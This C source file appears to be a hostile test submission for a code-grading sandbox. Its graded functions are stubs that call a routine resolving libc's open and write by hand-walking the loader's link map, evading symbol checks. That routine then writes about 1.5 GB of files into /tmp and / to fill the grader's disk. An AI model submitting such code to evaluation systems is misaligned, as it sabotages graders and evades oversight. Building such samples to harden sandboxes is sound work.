/*
 * Hostile: fills the grading machine's disk. The scratch folder, the one
 * place a run may write, is a folder of the host's own /tmp, on the
 * host's disk: RLIMIT_FSIZE caps each file at 64 MB, but nothing caps how
 * many files. With the C library's open and write (found by walking the
 * loader's link map by hand: plain C, no asm, no symbol of theirs), it
 * writes 63 MB files into /tmp, and also into / and /dev (tmpfs, memory),
 * until 1.5 GB are written over the whole run (bounded, so that it stops
 * by itself): an unbounded one would fill the disk while the watchdog
 * waits for the test's time limit. sum_reduction returns the MB this call
 * wrote, which the failure message shows.
 * expect: no points
 */
#include "races.h"

#include <stdint.h>
#include <stdlib.h>

/* ELF64 as the C library lays it out, written out by hand (no <elf.h>). */
typedef struct {
    unsigned char ident[16];
    uint16_t type, machine;
    uint32_t version;
    uint64_t entry, phoff, shoff;
    uint32_t flags;
    uint16_t ehsize, phentsize, phnum, shentsize, shnum, shstrndx;
} elf_header;
typedef struct {
    uint32_t type, flags;
    uint64_t offset, vaddr, paddr, filesz, memsz, align;
} program_header;
typedef struct {
    uint32_t name, type;
    uint64_t flags, addr, offset, size;
    uint32_t link, info;
    uint64_t addralign, entsize;
} section_header;
typedef struct {
    uint32_t name;
    unsigned char info, other;
    uint16_t shndx;
    uint64_t value, size;
} elf_symbol;
typedef struct {
    int64_t tag;
    uint64_t value;
} dynamic_entry;
/* The loader's list of loaded objects (glibc's struct link_map, public part). */
struct loaded {
    uint64_t base;
    const char *name;
    const dynamic_entry *dynamic;
    struct loaded *next, *prev;
};
struct loader_debug {
    int version;
    struct loaded *map;
};

static int same_text(const char *a, const char *b)
{
    while (*a && *a == *b)
        a++, b++;
    return *a == *b;
}

static int has_text(const char *text, const char *word)
{
    for (; text && *text; text++) {
        int i = 0;
        while (word[i] && text[i] == word[i])
            i++;
        if (!word[i])
            return 1;
    }
    return 0;
}

/* The executable's first page: walk back from this code. */
static const unsigned char *executable_image(void)
{
    uintptr_t page = (uintptr_t)&executable_image & ~(uintptr_t)4095;
    for (;;) {
        const unsigned char *p = (const unsigned char *)page;
        if (p[0] == 0x7f && p[1] == 'E' && p[2] == 'L' && p[3] == 'F')
            return p;
        page -= 4096;
    }
}

/* The loader's r_debug, from DT_DEBUG in the executable's dynamic section. */
static struct loaded *loaded_objects(void)
{
    const unsigned char *image = executable_image();
    const elf_header *eh = (const elf_header *)image;
    const program_header *ph = (const program_header *)(image + eh->phoff);
    uintptr_t bias = (uintptr_t)image;
    for (int i = 0; i < eh->phnum; i++)
        if (ph[i].type == 1 /* PT_LOAD */ && ph[i].offset == 0)
            bias = (uintptr_t)image - ph[i].vaddr;
    for (int i = 0; i < eh->phnum; i++) {
        if (ph[i].type != 2 /* PT_DYNAMIC */)
            continue;
        for (const dynamic_entry *d = (const dynamic_entry *)(bias + ph[i].vaddr); d->tag; d++)
            if (d->tag == 21 /* DT_DEBUG */ && d->value)
                return ((struct loader_debug *)d->value)->map;
    }
    return 0;
}

/* A function of a loaded library, by name, from its .dynsym. */
static void *library_function(const char *library, const char *name)
{
    for (struct loaded *lm = loaded_objects(); lm; lm = lm->next) {
        if (!has_text(lm->name, library))
            continue;
        const elf_symbol *symbols = 0;
        const char *strings = 0;
        for (const dynamic_entry *d = lm->dynamic; d->tag; d++) {
            uint64_t v = d->value < lm->base ? d->value + lm->base : d->value;
            if (d->tag == 6 /* DT_SYMTAB */)
                symbols = (const elf_symbol *)v;
            if (d->tag == 5 /* DT_STRTAB */)
                strings = (const char *)v;
        }
        if (!symbols || !strings)
            continue;
        /* .dynstr follows .dynsym. */
        for (const elf_symbol *s = symbols + 1; (const char *)s < strings; s++)
            if (s->value && (s->info & 15) == 2 /* STT_FUNC */ &&
                same_text(strings + s->name, name))
                return (void *)(lm->base + s->value);
    }
    return 0;
}


typedef int (*open_fn)(const char *, int, ...);
typedef long (*write_fn)(int, const void *, unsigned long);
typedef int (*close_fn)(int);

#define CHUNK (1 << 20)
#define FILE_MB 63
#define TOTAL_MB 1536

static long fill(void)
{
    open_fn open_ = (open_fn)library_function("libc.so", "open");
    write_fn write_ = (write_fn)library_function("libc.so", "write");
    close_fn close_ = (close_fn)library_function("libc.so", "close");
    if (!open_ || !write_ || !close_)
        return -1;
    /* The whole run writes TOTAL_MB: count what earlier tests wrote by the
     * files they left. */
    static const char *const folders[] = {"/tmp/fill-", "/fill-", "/dev/shm/fill-"};
    char *block = calloc(1, CHUNK);
    long written = 0, budget = 0;
    for (int k = 0; block && k < 64; k++) {
        char path[64];
        const char *folder = folders[k % 3 == 2 ? 1 : 0];
        char *w = path;
        for (const char *s = folder; *s;)
            *w++ = *s++;
        *w++ = (char)('a' + k / 26);
        *w++ = (char)('a' + k % 26);
        *w = 0;
        int fd = open_(path, 01 | 0100 | 0200 /* O_WRONLY | O_CREAT | O_EXCL */, 0600);
        if (fd < 0) {
            budget += FILE_MB;   /* an earlier test's */
            continue;
        }
        for (int mb = 0; mb < FILE_MB && budget < TOTAL_MB; mb++, written++, budget++)
            if (write_(fd, block, CHUNK) != CHUNK)
                break;
        close_(fd);
        if (budget >= TOTAL_MB)
            break;
    }
    free(block);
    return written;
}

long long sum_reduction(map_fn f, long long first, long long last)
{
    (void)f, (void)first, (void)last;
    return fill();
}

void histogram(int (*bin_of)(long i), long n, int nbins, long *counts)
{
    (void)bin_of, (void)n;
    long mb = fill();
    for (int b = 0; b < nbins; b++)
        counts[b] = mb;
}

struct best best_item(map_fn f, long long first, long long last)
{
    (void)f, (void)first, (void)last;
    struct best b = {fill(), 0};
    return b;
}
